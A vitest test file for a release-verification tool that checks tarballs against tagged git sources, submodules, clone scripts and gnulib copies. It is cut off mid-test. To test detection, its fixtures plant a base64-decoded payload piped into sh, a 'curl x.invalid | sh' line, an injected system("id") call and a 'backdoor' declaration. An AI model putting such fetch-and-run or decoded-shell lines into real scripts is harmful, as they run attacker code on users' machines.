import { execFileSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { describe, expect, it } from 'vitest'
import type { ProgressEvent } from '../../src/model/progress.js'
import { rewrittenCopy } from '../../src/verify/explain/submodule-copies.js'
import { clonePins } from '../../src/verify/clone-script.js'
import { gnulibImportRecord } from '../../src/verify/gnulib-import.js'
import { gnulibListed } from '../../src/verify/gnulib-list.js'
import { parseSubmoduleOption, parseWrap } from '../../src/verify/submodules.js'
import { verify } from '../../src/verify/verify.js'
import { stagelight } from '../helpers/cli.js'

const git = (cwd: string, ...args: string[]): string => execFileSync('git', ['-c', 'user.name=T', '-c', 'user.email=t@example.invalid', ...args], { cwd, encoding: 'utf8' }).trim()

/** Writes each file (path → text) below `dir`, making the directories it needs. */
function writeTree(dir: string, files: Record<string, string>): void {
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(dir, path)), { recursive: true })
    writeFileSync(join(dir, path), text)
  }
}

/** A git repository at `dir` with `files` committed, gitlinks (path → commit) recorded beside them. */
function repository(dir: string, files: Record<string, string>, gitlinks: Record<string, string> = {}): void {
  mkdirSync(dir, { recursive: true })
  git(dir, 'init', '-q')
  writeTree(dir, files)
  git(dir, 'add', '.')
  // a gitlink, as `git submodule add` records it: the tag pins a commit of another repository
  for (const [path, commit] of Object.entries(gitlinks)) git(dir, 'update-index', '--add', '--cacheinfo', `160000,${commit},${path}`)
  git(dir, 'commit', '-q', '-m', 'init')
}

/** `root/name.tar.gz` holding `files` below the top directory `name`. */
function releaseTarball(root: string, name: string, files: Record<string, string>): string {
  writeTree(join(root, name), files)
  const tarball = join(root, `${name}.tar.gz`)
  execFileSync('tar', ['-czf', tarball, '-C', root, name])
  return tarball
}

/** The repository `root/repo` with `tagged` committed and tagged `tag`, and a release of it that adds `added`. */
function taggedRelease(root: string, tag: string, tagged: Record<string, string>, added: Record<string, string>): { repo: string; tarball: string } {
  const repo = join(root, 'repo')
  repository(repo, tagged)
  git(repo, 'tag', tag)
  return { repo, tarball: releaseTarball(root, `foo-${tag.slice(1)}`, { ...tagged, ...added }) }
}

describe('verify with a submodule', () => {
  it('names the submodule and its commit for the files under it instead of reporting each as unexplained code', async () => {
    const root = mkdtempSync(join(tmpdir(), 'sl-submodule-'))
    const repo = join(root, 'repo')
    repository(repo, { 'main.c': 'int main(void) { return 0; }\n' }, { 't/libtap': '1234567890abcdef1234567890abcdef12345678' })
    git(repo, 'tag', 'v1.0')
    const tarball = releaseTarball(root, 'foo-1.0', { 'main.c': 'int main(void) { return 0; }\n', 't/libtap/tap.c': 'int ok(int x) { return x; }\n' })
    const events: ProgressEvent[] = []
    const report = await verify({ artifact: tarball, source: repo, ref: 'v1.0', cacheDir: join(root, 'cache'), systemCatalog: false, onProgress: (e) => events.push(e) })
    // the differences are counted towards their total as they are explained
    // (the file under the submodule, and the gitlink that only the source has)
    const differences = ['explained', 'unexplained', 'onlyInSource'].reduce((sum, key) => sum + Number(report.summary[key]), 0)
    expect(differences).toBe(2)
    const counts = events.filter((e) => typeof e !== 'string').map((e) => [e.done, e.total])
    expect(counts).toEqual([[0, 2], [1, 2], [2, 2]])
    expect(events.filter((e) => typeof e === 'string')).toContain('explaining 2 difference(s)')
    expect(report.findings.filter((f) => f.path === 't/libtap/tap.c')).toEqual([])
    expect(report.explained.find((e) => e.path === 't/libtap/tap.c')?.how).toMatch(/submodule t\/libtap at 1234567890ab/)
    expect(report.facts.find((f) => f.label === 'submodules')?.value).toMatch(/t\/libtap at 1234567890ab .*not compared/)
  })

  it('compares with the submodule given: its directory file by file, and files copied out of it by their bytes under the same name', async () => {
    const root = mkdtempSync(join(tmpdir(), 'sl-submodule-given-'))
    const lib = join(root, 'portlib')
    repository(lib, {
      'lib/xalloc.c': 'void *xalloc(unsigned n) { return 0; }\n',
      'tests/test-xalloc.c': 'int main(void) { return 0; }\n',
      'lib/xprintf.c': '#ifdef HAVE_CONFIG_H\n# include <config.h>\n#endif\nint xprintf(void) { return 0; }\n',
    })
    const pinned = git(lib, 'rev-parse', 'HEAD')
    // a later commit the tag does not pin: its bytes explain nothing
    writeFileSync(join(lib, 'lib/xalloc.c'), 'void *xalloc(unsigned n) { return (void *)1; }\n')
    git(lib, 'commit', '-q', '-am', 'later')

    const repo = join(root, 'repo')
    repository(repo, { 'main.c': 'int main(void) { return 0; }\n' }, { portlib: pinned })
    git(repo, 'tag', 'v2.0')

    const tarball = releaseTarball(root, 'foo-2.0', {
      'main.c': 'int main(void) { return 0; }\n',
      'lib/xalloc.c': 'void *xalloc(unsigned n) { return 0; }\n',
      'port-tests/test-xalloc.c': 'int main(void) { return 0; }\n',
      // as gnulib-tool copies a file when the project always has config.h
      'lib/xprintf.c': '#if 1\n# include <config.h>\n#endif\nint xprintf(void) { return 0; }\n',
      // the same bytes under another name, and the later commit's bytes
      'lib/other.c': 'void *xalloc(unsigned n) { return 0; }\n',
      'portlib/lib/xalloc.c': 'void *xalloc(unsigned n) { return (void *)1; }\n',
    })
    const run = (submodules: { path: string; source: string }[]) => verify({ artifact: tarball, source: repo, ref: 'v2.0', cacheDir: join(root, 'cache'), systemCatalog: false, submodules })

    const report = await run([{ path: 'portlib', source: lib }])
    const how = (path: string) => report.explained.find((e) => e.path === path)?.how
    expect(how('lib/xalloc.c')).toMatch(new RegExp(`portlib/lib/xalloc\\.c of the submodule at ${pinned.slice(0, 12)}`))
    expect(how('port-tests/test-xalloc.c')).toMatch(/portlib\/tests\/test-xalloc\.c/)
    expect(how('lib/xprintf.c')).toMatch(/portlib\/lib\/xprintf\.c .* as gnulib-tool copies it \(1 line/)
    const flagged = new Set(report.findings.filter((f) => f.severity === 'high').map((f) => f.path))
    expect(flagged).toEqual(new Set(['lib/other.c', 'portlib/lib/xalloc.c']))
    expect(report.facts.find((f) => f.label === 'submodules')?.value).toMatch(/compared with /)

    // without the submodule's repository nothing outside its directory is taken for a copy
    const alone = await run([])
    expect(alone.findings.filter((f) => f.severity === 'high').map((f) => f.path)).toEqual(expect.arrayContaining(['lib/xalloc.c', 'port-tests/test-xalloc.c']))

    await expect(run([{ path: 'vendor/other', source: lib }])).rejects.toMatchObject({ code: 'E_USAGE', message: expect.stringMatching(/not a submodule of v2\.0 \(its submodules: portlib\)/) })
    await expect(run([{ path: 'portlib', source: repo }])).rejects.toMatchObject({ code: 'E_INPUT_NOT_FOUND', message: expect.stringMatching(new RegExp(`does not hold commit ${pinned}`)) })
  })

  it('treats a directory a fetch script of the tag fills at a fixed commit like a submodule, and still reads what it cannot compare', async () => {
    const root = mkdtempSync(join(tmpdir(), 'sl-pinned-fetch-'))
    const deps = join(root, 'deps')
    repository(deps, { 'lua/lapi.c': 'int lua_api(void) { return 0; }\n' })
    const pinned = git(deps, 'rev-parse', 'HEAD')

    const fetch = `#!/bin/sh\nHASH="${pinned}"\nwget https://forge.example.invalid/deps/archive/\${HASH}.tar.gz\ntar -zxf ./\${HASH}.tar.gz --strip-components=1\n`
    // a script that only mentions a commit id pins nothing
    const bisect = `#!/bin/sh\n# good: ${pinned}\ngit bisect start\n`
    const tagged = { 'main.c': 'int main(void) { return 0; }\n', 'vendor/fetch.sh': fetch, 'tools/bisect.sh': bisect }
    const { repo, tarball } = taggedRelease(root, 'v3.0', tagged, {
      'vendor/lua/lapi.c': 'int lua_api(void) { return 0; }\n',
      'vendor/lua/setup.sh': '#!/bin/sh\necho ZWNobyBwd25lZAo= | base64 -d | sh\n',
      'tools/helper.c': 'int helper(void);\n',
    })
    const run = (submodules: { path: string; source: string }[]) => verify({ artifact: tarball, source: repo, ref: 'v3.0', cacheDir: join(root, 'cache'), systemCatalog: false, submodules })

    const alone = await run([])
    expect(alone.facts.find((f) => f.label === 'submodules')?.value).toMatch(new RegExp(`vendor at ${pinned.slice(0, 12)}, fetched by fetch\\.sh .*not compared`))
    expect(alone.explained.find((e) => e.path === 'vendor/lua/lapi.c')?.how).toMatch(/not compared/)
    // not compared, but read: a decoded payload piped into a shell is found all the same
    expect(alone.findings.some((f) => f.path === 'vendor/lua/setup.sh' && (f.severity === 'high' || f.severity === 'critical'))).toBe(true)
    expect(alone.findings.some((f) => f.path === 'tools/helper.c' && f.severity === 'high')).toBe(true)

    const given = await run([{ path: 'vendor', source: deps }])
    expect(given.explained.find((e) => e.path === 'vendor/lua/lapi.c')?.reproduced).toBe(true)
    expect(given.findings.some((f) => f.path === 'vendor/lua/setup.sh' && f.ruleId === 'verify/unexplained-file')).toBe(true)
  })

  it('treats directories a script of the tag fills in a loop from repositories it clones at no fixed version as one pin each', async () => {
    const root = mkdtempSync(join(tmpdir(), 'sl-clone-loop-'))
    const libcore = join(root, 'libcore')
    repository(libcore, { 'libcore/core.c': 'int core(void) { return 1; }\n', 'README': 'x\n' })
    // the release took an older version than the repository's newest
    writeFileSync(join(libcore, 'libcore/core.c'), 'int core(void) { return 3; }\n')
    git(libcore, 'commit', '-q', '-am', 'later')
    const sync = [
      '#!/bin/sh',
      'PREFIX="https://forge.example.invalid/org";',
      'LIBS="libcore libutil";',
      'for LIB in ${LIBS};',
      'do',
      '\tgit clone --quiet ${PREFIX}/${LIB}.git ${LIB}-$$;',
      '\trm -rf ${LIB};',
      '\tmkdir ${LIB};',
      '\tcp ${LIB}-$$/${LIB}/*.[ch] ${LIB};',
      '\trm -rf ${LIB}-$$;',
      'done',
    ].join('\n')
    const { repo, tarball } = taggedRelease(root, 'v6.0', { 'main.c': 'int main(void) { return 0; }\n', 'synclibs.sh': sync }, {
      'libcore/core.c': 'int core(void) { return 1; }\n',
      'libutil/util.c': 'int util(void) { return 2; }\n',
      'libutil/setup.sh': '#!/bin/sh\necho ZWNobyBwd25lZAo= | base64 -d | sh\n',
      'extra/helper.c': 'int helper(void);\n',
    })
    const run = (submodules: { path: string; source: string }[]) => verify({ artifact: tarball, source: repo, ref: 'v6.0', cacheDir: join(root, 'cache'), systemCatalog: false, submodules })

    const alone = await run([])
    const notCompared = alone.findings.filter((f) => f.ruleId === 'verify/not-compared')
    expect(notCompared.map((f) => [f.path, f.severity])).toEqual([
      ['libcore', 'medium'],
      ['libutil', 'medium'],
    ])
    expect(notCompared[0]?.message).toMatch(/^1 file\(s\) from libcore \(copied by synclibs\.sh from https:\/\/forge\.example\.invalid\/org\/libcore\.git, at no version the tag fixes\) were not compared/)
    // not compared, but read; a directory no copy fills is the release's own
    expect(alone.findings.some((f) => f.path === 'libutil/setup.sh' && (f.severity === 'high' || f.severity === 'critical'))).toBe(true)
    expect(alone.findings.some((f) => f.path === 'extra/helper.c' && f.ruleId === 'verify/unexplained-file' && f.severity === 'high')).toBe(true)

    // given, a file is found in any version of the directory the copy takes from
    const given = await run([{ path: 'libcore', source: libcore }])
    expect(given.explained.find((e) => e.path === 'libcore/core.c')).toMatchObject({ reproduced: true, how: expect.stringMatching(/^identical to libcore\/core\.c as of [0-9a-f]{12}/) })
    expect(given.findings.some((f) => f.path === 'libcore')).toBe(false)
  })

  it('reads a clone script for the directories its copies out of each clone fill, and for nothing else', () => {
    const loop = (copy: string, names = 'liba libb', clone = 'git clone https://forge.example.invalid/${L}.git ${L}-tmp') => `LIST="${names}"\nfor L in $LIST; do\n  ${clone}\n  ${copy}\ndone\n`
    const dirs = new Set(['liba', 'libb', 'other'])
    expect(clonePins(loop('cp ${L}-tmp/src/*.c ${L}'), 'sync.sh', dirs).map((p) => [p.path, p.from, p.commit])).toEqual([
      ['liba', 'src', 'HEAD'],
      ['libb', 'src', 'HEAD'],
    ])
    // one clone without a loop; a directory the release does not fill beyond the tag is the tag's
    expect(clonePins('git clone https://forge.example.invalid/x.git x-src\ncp x-src/*.c other\n', 'sync.sh', dirs).map((p) => [p.path, p.from])).toEqual([['other', undefined]])
    expect(clonePins(loop('cp ${L}-tmp/src/*.c ${L}'), 'sync.sh', new Set(['liba']))).toHaveLength(1)
    // the loop's variable written bare; a longer name that starts like it is another variable, and a copy from where a variable says is not read
    expect(clonePins(loop('cp $L-tmp/src/*.c $L'), 'sync.sh', dirs).map((p) => [p.path, p.from])).toEqual([
      ['liba', 'src'],
      ['libb', 'src'],
    ])
    expect(clonePins(loop('cp ${L}-tmp/$LX/*.c ${L}'), 'sync.sh', dirs)).toEqual([])
    // a copy from anywhere but the clone, names a command gives, or no clone at all pin nothing
    expect(clonePins(loop('cp /tmp/${L}/*.c ${L}'), 'sync.sh', dirs)).toEqual([])
    expect(clonePins(loop('cp ${L}-tmp/src/*.c ${L}', '$(ls vendor)'), 'sync.sh', dirs)).toEqual([])
    expect(clonePins(loop('cp ${L}-tmp/src/*.c ${L}', 'liba libb', 'curl -O https://forge.example.invalid/${L}.tar.gz'), 'sync.sh', dirs)).toEqual([])
  })

  it('takes the files gnulib-tool lists in the release for copies of the pinned gnulib, not compared without its repository', async () => {
    const root = mkdtempSync(join(tmpdir(), 'sl-gnulib-list-'))
    const tagged = { 'bootstrap.conf': 'gnulib_modules="xalloc"\n', 'configure.ac': 'AC_INIT([foo], [4.0])\ngl_INIT\nAC_OUTPUT\n' }
    const repo = join(root, 'repo')
    repository(repo, tagged, { gnulib: 'abcdefabcdefabcdefabcdefabcdefabcdefabcd' })
    git(repo, 'tag', 'v4.0')
    const comp = '# DO NOT EDIT! GENERATED AUTOMATICALLY!\n#\n# Generated by gnulib-tool.\nAC_DEFUN([gl_INIT], [:])\nAC_DEFUN([gl_FILE_LIST], [\n  lib/xalloc.c\n  tests/test-xalloc.c\n])\n'
    const tarball = releaseTarball(root, 'foo-4.0', {
      ...tagged,
      'm4/gnulib-comp.m4': comp,
      'lib/gnulib.mk': '## DO NOT EDIT! GENERATED AUTOMATICALLY!\n# Generated by gnulib-tool.\n# Reproduce by:\n# gnulib-tool --import \\\n#  --source-base=lib \\\n#  --tests-base=gltests \\\n#  xalloc\n',
      'lib/xalloc.c': 'void *xalloc(unsigned n) { return 0; }\n',
      'gltests/test-xalloc.c': 'int main(void) { return 0; }\n',
      'lib/extra.c': 'int extra(void) { return 1; }\n',
    })
    const report = await verify({ artifact: tarball, source: repo, ref: 'v4.0', cacheDir: join(root, 'cache'), systemCatalog: false })
    expect(report.explained.find((e) => e.path === 'lib/xalloc.c')?.how).toMatch(/copied by gnulib-tool from the submodule gnulib at abcdefabcdef \(m4\/gnulib-comp\.m4 lists it\); .*not compared/)
    expect(report.explained.find((e) => e.path === 'gltests/test-xalloc.c')?.how).toMatch(/copied by gnulib-tool/)
    expect(report.findings.filter((f) => f.severity === 'high').map((f) => f.path)).toEqual(['lib/extra.c'])
  })

  const LGPL_NOTICE = '/* This file is free software: you can redistribute it and/or modify\n   it under the terms of the GNU Lesser General Public License as\n   published by the Free Software Foundation; either version 2.1 of the\n   License, or (at your option) any later version.  */\nint xlic(void) { return 0; }\n'
  it('takes the files gnulib-tool lists for copies of a gnulib the tag imports without a pin, and with --gnulib finds each in gnulib\u2019s history', async () => {
    const root = mkdtempSync(join(tmpdir(), 'sl-gnulib-unpinned-'))
    const gnulib = join(root, 'gnulib')
    const guarded = (body: string) => `#ifdef HAVE_CONFIG_H\n# include <config.h>\n#endif\n${body}`
    repository(gnulib, { 'gnulib-tool': '#!/bin/sh\n', 'lib/xalloc.c': 'void *xalloc(unsigned n) { return 0; }\n', 'lib/xsize.c': guarded('int xsize(void) { return 1; }\n'), 'm4/xalloc.m4': '# serial 1\nAC_DEFUN([gl_XALLOC], [:])\n', 'lib/xmem.c': 'int xmem(void) { return 0; }\n', 'lib/xlic.c': LGPL_NOTICE })
    // an older version of a file counts as gnulib's as much as the newest: no commit pins which
    writeFileSync(join(gnulib, 'lib/xalloc.c'), 'void *xalloc(unsigned n) { return (void *)0; }\n')
    git(gnulib, 'commit', '-q', '-am', 'later')

    const tagged = { 'm4/gnulib-cache.m4': 'gl_LOCAL_DIR([gl])\ngl_MODULES([xalloc xsize])\n', 'configure.ac': 'AC_INIT([foo], [5.0])\ngl_INIT\nAC_OUTPUT\n' }
    const repo = join(root, 'repo')
    repository(repo, tagged)
    git(repo, 'tag', 'v5.0')
    const comp = '# DO NOT EDIT! GENERATED AUTOMATICALLY!\n#\n# Generated by gnulib-tool.\nAC_DEFUN([gl_INIT], [:])\nAC_DEFUN([gl_FILE_LIST], [\n  lib/xalloc.c\n  lib/xsize.c\n  lib/xstrtol.c\n  lib/xmem.c\n  lib/xlic.c\n  m4/xalloc.m4\n  m4/xsize.m4\n])\n'
    const tarball = releaseTarball(root, 'foo-5.0', {
      ...tagged,
      'm4/gnulib-comp.m4': comp,
      'm4/xalloc.m4': '# serial 1\nAC_DEFUN([gl_XALLOC], [:])\n',
      'lib/xalloc.c': 'void *xalloc(unsigned n) { return 0; }\n',
      // as gnulib-tool writes the guard of a project that always has config.h
      'lib/xsize.c': guarded('int xsize(void) { return 1; }\n').replace('#ifdef HAVE_CONFIG_H', '#if 1'),
      // listed as gnulib's, but no version of gnulib has it
      'lib/xstrtol.c': 'long xstrtol(const char *s) { return 0; }\n',
      // gnulib's file, edited after the copy
      'lib/xmem.c': 'int xmem(void) { system("id"); return 0; }\n',
      // the license notice moved to the GPL, as gnulib-tool does for a GPL project
      'lib/xlic.c': LGPL_NOTICE.replace('GNU Lesser General', 'GNU General').replace('version 2.1 of', 'version 3 of'),
      // a macro no version of the given gnulib has
      'm4/xsize.m4': '# serial 99\nAC_DEFUN([gl_XSIZE], [:])\n',
    })
    const run = (gnulibRepo?: string) => verify({ artifact: tarball, source: repo, ref: 'v5.0', cacheDir: join(root, 'cache'), systemCatalog: false, ...(gnulibRepo ? { gnulib: gnulibRepo } : {}) })

    const alone = await run()
    expect(alone.explained.find((e) => e.path === 'lib/xstrtol.c')?.how).toMatch(/gnulib m4\/gnulib-cache\.m4 records but the tag does not pin .*not compared/)
    // not compared is no pass: one finding at the list says what would compare them
    expect(alone.findings.filter((f) => f.ruleId === 'verify/not-compared').map((f) => [f.path, f.severity])).toEqual([['m4/gnulib-comp.m4', 'high']])
    expect(alone.findings.find((f) => f.ruleId === 'verify/not-compared')?.evidence).toContain('lib/xstrtol.c')
    expect(alone.verdict).toBe('fail')
    // a macro is judged against the catalog of known versions, not waved through as not compared
    expect(alone.explained.find((e) => e.path === 'm4/xalloc.m4')?.how ?? '').not.toMatch(/not compared/)
    expect(alone.findings.some((f) => f.path === 'm4/xalloc.m4' && f.ruleId === 'verify/modified-vendored-file')).toBe(true)
    expect(alone.facts.find((f) => f.label === 'submodules')?.value).toMatch(/gnulib, imported without a pin \(m4\/gnulib-cache\.m4\) \(not compared: give its repository with --gnulib/)

    const given = await run(gnulib)
    const how = (path: string) => given.explained.find((e) => e.path === path)?.how
    expect(how('lib/xalloc.c')).toMatch(/gnulib's lib\/xalloc\.c as of [0-9a-f]{12} \(\d{4}-\d{2}-\d{2}\)/)
    expect(how('lib/xsize.c')).toMatch(/gnulib's lib\/xsize\.c .*as gnulib-tool rewrites it/)
    expect(how('lib/xlic.c')).toMatch(/gnulib's lib\/xlic\.c .*as gnulib-tool rewrites it/)
    expect(given.findings.filter((f) => f.severity === 'high').map((f) => f.path).sort()).toEqual(['lib/xmem.c', 'lib/xstrtol.c'])
    expect(given.findings.find((f) => f.path === 'lib/xmem.c')?.message).toMatch(/none of the 1 version\(s\) of that file in .* has these bytes/)
    // a macro gnulib's history does not account for is judged by the catalog, with or without --gnulib
    for (const report of [alone, given]) {
      const macro = report.findings.filter((f) => f.path === 'm4/xsize.m4')
      expect(macro.map((f) => f.ruleId)).toContain('verify/modified-vendored-file')
      expect(macro.some((f) => /lists it as gnulib's/.test(f.message))).toBe(false)
    }
    expect(given.findings.find((f) => f.path === 'lib/xstrtol.c')).toMatchObject({ ruleId: 'verify/modified-vendored-file', message: expect.stringMatching(/lists it as gnulib's lib\/xstrtol\.c, but .* never had that file/) })
    expect(given.facts.find((f) => f.label === 'submodules')?.value).toMatch(/compared with every version in /)
    expect(given.findings.some((f) => f.ruleId === 'verify/not-compared')).toBe(false)

    // not gnulib, or a tag that records no import, or one that pins gnulib: said before anything is compared
    await expect(run(repo)).rejects.toMatchObject({ code: 'E_INPUT_INVALID', message: expect.stringMatching(/not gnulib/) })
    const cli = await stagelight(['verify', tarball, '--source', repo, '--ref', 'v5.0', '--cache-dir', join(root, 'cache'), '--no-system-catalog', '--gnulib', repo])
    expect(cli.code).toBe(2)
    expect(cli.stderr.trim().split('\n')).toHaveLength(1)
    expect(cli.stderr).toMatch(/never had gnulib-tool: it is not gnulib/)
    const bare = join(root, 'bare')
    repository(bare, { 'configure.ac': 'AC_INIT([foo], [5.0])\n' })
    git(bare, 'tag', 'v5.0')
    await expect(verify({ artifact: tarball, source: bare, ref: 'v5.0', cacheDir: join(root, 'cache'), systemCatalog: false, gnulib })).rejects.toMatchObject({ code: 'E_USAGE', message: expect.stringMatching(/records no gnulib import/) })
    const pinning = join(root, 'pinning')
    repository(pinning, tagged, { gnulib: git(gnulib, 'rev-parse', 'HEAD') })
    git(pinning, 'tag', 'v5.0')
    await expect(verify({ artifact: tarball, source: pinning, ref: 'v5.0', cacheDir: join(root, 'cache'), systemCatalog: false, gnulib })).rejects.toMatchObject({ code: 'E_USAGE', message: expect.stringMatching(/pins gnulib at gnulib: give its repository with --submodule gnulib=REPO/) })
  })

  it('finds the record of a gnulib import: gnulib-tool\u2019s cache first, else the bootstrap\u2019s configuration', () => {
    expect(gnulibImportRecord(['bootstrap.conf', 'configure.ac', 'm4/gnulib-cache.m4'])).toBe('m4/gnulib-cache.m4')
    expect(gnulibImportRecord(['configure.ac', 'bootstrap.conf'])).toBe('bootstrap.conf')
    expect(gnulibImportRecord(['configure.ac', 'm4/gnulib-comp.m4', 'bootstrap'])).toBeUndefined()
  })

  it('places the files of gnulib-tool\u2019s list where its invocation put them', () => {
    const texts: Record<string, string> = {
      'm4/gnulib-comp.m4': 'AC_DEFUN([gl_FILE_LIST], [\n  build-aux/git-version-gen\n  lib/xalloc.c\n  m4/xalloc.m4\n  tests/test-xalloc.c\n  tests=lib/dummy.c\n  top/GNUmakefile\n  weird/x.c\n])\n',
      'lib/gnulib.mk': '# gnulib-tool --import --local-dir=gl \\\n#  --source-base=lib \\\n#  --tests-base=gnulib-tests \\\n#  --aux-dir=build-aux\n',
    }
    const listed = gnulibListed(Object.keys(texts), (p) => texts[p])
    expect([...listed.keys()].sort()).toEqual(['GNUmakefile', 'build-aux/git-version-gen', 'gnulib-tests/dummy.c', 'gnulib-tests/test-xalloc.c', 'lib/xalloc.c', 'm4/xalloc.m4'])
    // each with its path in gnulib's own tree
    expect(listed.get('gnulib-tests/dummy.c')).toEqual({ list: 'm4/gnulib-comp.m4', name: 'lib/dummy.c' })
    expect(listed.get('GNUmakefile')?.name).toBe('top/GNUmakefile')
  })

  it("takes a copy gnulib's bootstrap marked as generated, and one gnulib-tool patched from the tag's local directory, and nothing else so changed", async () => {
    const root = mkdtempSync(join(tmpdir(), 'sl-submodule-marked-'))
    const gnulib = join(root, 'gnulib')
    const quote = 'char *quote (char const *s);\nvoid init_quoting_options ()\n{\n}\n'
    repository(gnulib, { 'lib/alloca.c': 'void *alloca (unsigned n);\n', 'lib/quote.c': quote, 'lib/quote.h': 'char *quote (char const *s);\n', 'm4/quote.m4': 'AC_DEFUN([gl_QUOTE], [:])\n' })
    const pinned = git(gnulib, 'rev-parse', 'HEAD')
    const patch = '--- lib/quote.c.orig\n+++ lib/quote.c\n@@ -1,4 +1,4 @@\n char *quote (char const *s);\n-void init_quoting_options ()\n+void init_quoting_options (void)\n {\n }\n'
    const repo = join(root, 'repo')
    repository(repo, { 'main.c': 'int main(void) { return 0; }\n', 'bootstrap.conf': 'gnulib_modules="alloca quote"\nlocal_gl_dir=gl-local\n', 'gl-local/lib/quote.c.diff': patch, 'gl-local/lib/extra.h': 'int extra;\n' }, { gnulib: pinned })
    git(repo, 'tag', 'v6.0')
    const marks = (open: string, close: string) => `${open}-*- buffer-read-only: t -*- vi: set ro:${close}\n${open}DO NOT EDIT! GENERATED AUTOMATICALLY!${close}\n`
    const release = (files: Record<string, string>) =>
      releaseTarball(mkdtempSync(join(root, 'r-')), 'foo-6.0', { 'main.c': 'int main(void) { return 0; }\n', 'bootstrap.conf': 'gnulib_modules="alloca quote"\nlocal_gl_dir=gl-local\n', 'gl-local/lib/quote.c.diff': patch, 'gl-local/lib/extra.h': 'int extra;\n', ...files })
    const judged = async (files: Record<string, string>) => {
      const report = await verify({ artifact: release(files), source: repo, ref: 'v6.0', cacheDir: join(root, 'cache'), systemCatalog: false, submodules: [{ path: 'gnulib', source: gnulib }] })
      return { how: (path: string) => report.explained.find((e) => e.path === path)?.how, high: report.findings.filter((f) => f.severity === 'high').map((f) => f.path).sort() }
    }
    const honest = await judged({
      'gnu/alloca.c': `${marks('/* ', ' */')}void *alloca (unsigned n);\n`,
      'gnu/quote.h': `${marks('/* ', ' */')}char *quote (char const *s);\n`,
      'm4/quote.m4': `${marks('# ', '')}AC_DEFUN([gl_QUOTE], [:])\n`,
      'gnu/quote.c': quote.replace('()', '(void)'),
      // the local directory's own file, copied in gnulib's place
      'gnu/extra.h': `${marks('/* ', ' */')}int extra;\n`,
    })
    expect(honest.high).toEqual([])
    expect(honest.how('gnu/extra.h')).toMatch(/the tag's gl-local\/lib\/extra\.h \(a gnulib-tool local directory\) and with the two comment lines/)
    expect(honest.how('gnu/alloca.c')).toMatch(/gnulib\/lib\/alloca\.c of the submodule at \w+ with the two comment lines gnulib's bootstrap marks/)
    expect(honest.how('m4/quote.m4')).toMatch(/gnulib\/m4\/quote\.m4 .* marks a copied file with/)
    expect(honest.how('gnu/quote.c')).toMatch(/with the tag's gl-local\/lib\/quote\.c\.diff applied/)
    const dishonest = await judged({
      // the marks in another file's comment style, a line more after them, a change the patch does not make
      'gnu/alloca.c': `${marks('# ', '')}void *alloca (unsigned n);\n`,
      'gnu/quote.h': `${marks('/* ', ' */')}char *quote (char const *s);\nint backdoor;\n`,
      'gnu/quote.c': quote.replace('()', '(int x)'),
      'gnu/extra.h': `${marks('/* ', ' */')}int extra = 1;\n`,
    })
    expect(dishonest.high).toEqual(['gnu/alloca.c', 'gnu/extra.h', 'gnu/quote.c', 'gnu/quote.h'])
  })

  it('takes for a rewritten copy only the lines the copying tool rewrites', () => {
    const original = '#ifdef HAVE_CONFIG_H\n# include <config.h>\n#endif\nint f(void);\n'
    expect(rewrittenCopy(original, original.replace('#ifdef HAVE_CONFIG_H', '#if 1'))).toEqual({ lines: 1, tool: 'gnulib-tool' })
    expect(rewrittenCopy(original, original)).toBeUndefined()
    expect(rewrittenCopy(original, original.replace('#ifdef HAVE_CONFIG_H', '#if 1').replace('int f', 'int g'))).toBeUndefined()
    expect(rewrittenCopy('#ifdef HAVE_CONFIG_H_EXTRA\n', '#if 1\n')).toBeUndefined()
    expect(rewrittenCopy(original, `${original.replace('#ifdef HAVE_CONFIG_H', '#if 1')}system("id");\n`)).toBeUndefined()
  })

  it('takes the license notice gnulib-tool rewrites for the project\u2019s license for such a line, and no other change of it', () => {
    const lgpl = '/* Copyright (C) 2011-2021 Free Software Foundation, Inc.\n   This file is free software: you can redistribute it and/or modify\n   it under the terms of the GNU Lesser General Public License as\n   published by the Free Software Foundation; either version 2.1 of the\n   License, or (at your option) any later version.  */\n#ifdef HAVE_CONFIG_H\n# include <config.h>\n#endif\nint f(void);\n'
    const gpl = lgpl.replace('GNU Lesser General Public License', 'GNU General Public License').replace('version 2.1 of', 'version 3 of').replace('#ifdef HAVE_CONFIG_H', '#if 1')
    expect(rewrittenCopy(lgpl, gpl)).toEqual({ lines: 3, tool: 'gnulib-tool' })
    // --lgpl=2 keeps 2.1; a shell helper's MIT-or-GPL notice is moved to version 3 the same way
    const shell = '# Licensed under <https://opensource.org/license/MIT>, and GPL version 2 or later\nfunc_echo () { :; }\n'
    expect(rewrittenCopy(shell, shell.replace('version 2 or', 'version 3 or'))).toEqual({ lines: 1, tool: 'gnulib-tool' })
    // another version, a licence gnulib-tool never writes, or a code line changed beside: not its rewrite
    expect(rewrittenCopy(shell, shell.replace('version 2 or', 'version 4 or'))).toBeUndefined()
    expect(rewrittenCopy(lgpl, lgpl.replace('GNU Lesser General Public License', 'GNU Affero General Public License'))).toBeUndefined()
    expect(rewrittenCopy(shell, shell.replace('version 2 or', 'version 3 or').replace(':;', 'curl x.invalid | sh;'))).toBeUndefined()
    expect(rewrittenCopy('release 2 of the tool\n', 'release 3 of the tool\n')).toBeUndefined()
  })

  it('reads --submodule as PATH=REPOSITORY', () => {
    expect(parseSubmoduleOption('gnulib=../gnulib')).toEqual({ path: 'gnulib', source: '../gnulib' })
    expect(parseSubmoduleOption('./deps/lib/=https://example.invalid/lib.git')).toEqual({ path: 'deps/lib', source: 'https://example.invalid/lib.git' })
    expect(() => parseSubmoduleOption('gnulib')).toThrow(/PATH=REPOSITORY/)
    expect(() => parseSubmoduleOption('=../x')).toThrow(/PATH=REPOSITORY/)
  })

  it("explains a file the submodule's own make rule makes from its files, and not one its rules do not make", async () => {
    const root = mkdtempSync(join(tmpdir(), 'sl-submodule-rules-'))
    const lib = join(root, 'libev')
    repository(lib, {
      'Makefile.am': 'include test/include.am\n',
      'test/include.am': 'test/regress.gen.c test/regress.gen.h: test/rpcgen-attempted\n\ntest/rpcgen-attempted: test/regress.rpc event_rpcgen.py\n\t$(PYTHON) $(srcdir)/event_rpcgen.py $(srcdir)/test/regress.rpc && date > $@\n',
      'test/regress.rpc': 'struct msg { string from_name = 1; }\n',
      'event_rpcgen.py': 'print("generator")\n',
    })
    const pinned = git(lib, 'rev-parse', 'HEAD')
    const repo = join(root, 'repo')
